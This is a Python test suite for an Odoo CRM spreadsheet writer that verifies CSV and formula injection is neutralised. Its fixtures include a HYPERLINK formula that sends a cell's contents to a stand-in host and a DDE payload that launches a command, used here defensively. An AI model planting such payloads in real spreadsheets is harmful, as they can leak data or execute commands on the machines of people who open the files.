import csv
import datetime
import io
import zipfile

import openpyxl

from odoo.tests import tagged

from .common import SmartCrmCase
from odoo.addons.crm_smart_base.tools import xlsx_writer

#: texts a spreadsheet would take for formulas
FORMULA_TEXTS = ['=HYPERLINK("http://x?"&A2,"click")', "+1", "-2", "@SUM(A1)"]


@tagged("at_install", "-post_install")
class TestXlsxWriter(SmartCrmCase):

    @staticmethod
    def read_book(content):
        return openpyxl.load_workbook(io.BytesIO(content))

    def test_text_is_never_a_formula(self):
        workbook = xlsx_writer.XlsxWorkbook()
        sheet = workbook.add_sheet("Texts")
        sheet.header(["Text"])
        for row, text in enumerate(FORMULA_TEXTS, start=1):
            sheet.text(row, 0, text)
        # write() of the library, too, keeps texts as texts in our workbooks
        sheet.sheet.write(len(FORMULA_TEXTS) + 1, 0, "=1+1")
        ws = self.read_book(workbook.close()).active
        cells = [ws.cell(row, 1) for row in range(2, len(FORMULA_TEXTS) + 3)]
        self.assertEqual([cell.value for cell in cells], [*FORMULA_TEXTS, "=1+1"])
        for cell in cells:
            self.assertEqual(cell.data_type, "s", f"{cell.value} was written as a formula")

    def test_typed_cells_header_widths(self):
        workbook = xlsx_writer.XlsxWorkbook()
        sheet = workbook.add_sheet("Customers: [all]")
        sheet.header(["Name", "Count", "Rate", "Amount", "Day", "Time", "Active"])
        sheet.text(1, 0, "山田 太郎" * 3)
        sheet.number(1, 1, 1200)
        sheet.number(1, 2, 0.25, "float")
        sheet.money(1, 3, 17000)
        sheet.date(1, 4, datetime.date(2025, 3, 31))
        sheet.datetime(1, 5, datetime.datetime(2025, 3, 31, 9, 30))
        sheet.boolean(1, 6, True)
        sheet.value(2, 0, "鈴木")
        sheet.value(2, 1, 3)
        sheet.value(2, 4, datetime.date(2025, 4, 1))
        sheet.value(2, 6, False)
        book = self.read_book(workbook.close())
        self.assertEqual(book.sheetnames, ["Customers   all "])
        ws = book.active
        self.assertEqual(ws.freeze_panes, "A2")
        self.assertEqual(ws.auto_filter.ref, "A1:G3")
        self.assertTrue(ws["A1"].font.b)
        self.assertEqual([ws.cell(2, col).value for col in range(1, 8)], [
            "山田 太郎" * 3, 1200, 0.25, 17000, datetime.datetime(2025, 3, 31),
            datetime.datetime(2025, 3, 31, 9, 30), True])
        self.assertEqual(ws["B2"].data_type, "n")
        self.assertIn("¥", ws["D2"].number_format)
        self.assertEqual(ws["E2"].number_format, "yyyy-mm-dd")
        self.assertEqual([ws.cell(3, col).value for col in (1, 2, 5, 7)],
                         ["鈴木", 3, datetime.datetime(2025, 4, 1), None])
        self.assertGreaterEqual(ws.column_dimensions["A"].width, 29, "wide characters count twice")
        self.assertLess(ws.column_dimensions["B"].width, xlsx_writer.MIN_WIDTH + 1)

    def test_record_cells(self):
        workbook = xlsx_writer.XlsxWorkbook()
        sheet = workbook.add_sheet("Customers")
        Partner = self.env["res.partner"]
        self.customer.name = "=1+1"
        for col, name in enumerate(["name", "country_id", "is_company", "partner_latitude"]):
            sheet.record_cell(1, col, self.customer, Partner._fields[name])
        ws = self.read_book(workbook.close()).active
        self.assertEqual([c.value for c in ws[2]], ["=1+1", "Japan", False, 0])
        self.assertEqual(ws["A2"].data_type, "s")

    def test_native_chart_refers_to_cells(self):
        workbook = xlsx_writer.XlsxWorkbook()
        sheet = workbook.add_sheet("Q1 満足度")
        sheet.text(0, 0, "=HYPERLINK(1)")
        sheet.header(["回答", "件数"], row=1)
        for row, (label, count) in enumerate([("満足", 5), ("不満", 2)], start=2):
            sheet.text(row, 0, label)
            sheet.number(row, 1, count)
        sheet.chart(2, 3, 0, [1], 1, 3, title_cell=(0, 0), name_row=1)
        with zipfile.ZipFile(io.BytesIO(workbook.close())) as archive:
            self.assertEqual([n for n in archive.namelist() if n.startswith("xl/charts/")], ["xl/charts/chart1.xml"])
            chart = archive.read("xl/charts/chart1.xml").decode()
        self.assertIn("<c:barChart>", chart)
        self.assertIn("<c:f>'Q1 満足度'!$A$3:$A$4</c:f>", chart)
        self.assertIn("<c:f>'Q1 満足度'!$B$3:$B$4</c:f>", chart)
        self.assertIn("<c:f>'Q1 満足度'!$A$1</c:f>", chart, "the title refers to its cell")
        # the title's text is only the cached value of that cell, never a formula
        self.assertIn("<c:v>=HYPERLINK(1)</c:v>", chart)
        self.assertNotIn("<c:f>=", chart)

    def test_rejects_sheet(self):
        workbook = xlsx_writer.XlsxWorkbook()
        rejects = workbook.add_rejects_sheet(self.env, ["Name", "Amount", "Day"])
        rejects.add(["=cmd|' /C calc'!A0", 12, datetime.date(2025, 1, 2)], "Amount: too big")
        rejects.add(["@SUM(A1)"], "Day: missing")
        ws = self.read_book(workbook.close()).active
        self.assertEqual(ws.title, "Rejected rows")
        self.assertEqual([[c.value for c in row] for row in ws.iter_rows()], [
            ["Name", "Amount", "Day", "Reason"],
            ["=cmd|' /C calc'!A0", 12, "2025-01-02", "Amount: too big"],
            ["@SUM(A1)", None, None, "Day: missing"],
        ])
        self.assertEqual(ws["A2"].data_type, "s")
        self.assertEqual(ws.freeze_panes, "A2")

    def test_csv_neutralises_formulas(self):
        for text in FORMULA_TEXTS + ["\tx", "\rx"]:
            self.assertEqual(xlsx_writer.csv_cell(text), "'" + text)
        for value in ["山田", "a=b", "1-2", "", -2, 1.5]:
            self.assertEqual(xlsx_writer.csv_cell(value), value)
        content = xlsx_writer.csv_content([["Name", "Amount"], ["=1+1", -2], ["@SUM(A1)", 3]], encoding="cp932")
        rows = list(csv.reader(io.StringIO(content.decode("cp932"))))
        self.assertEqual(rows, [["Name", "Amount"], ["'=1+1", "-2"], ["'@SUM(A1)", "3"]])
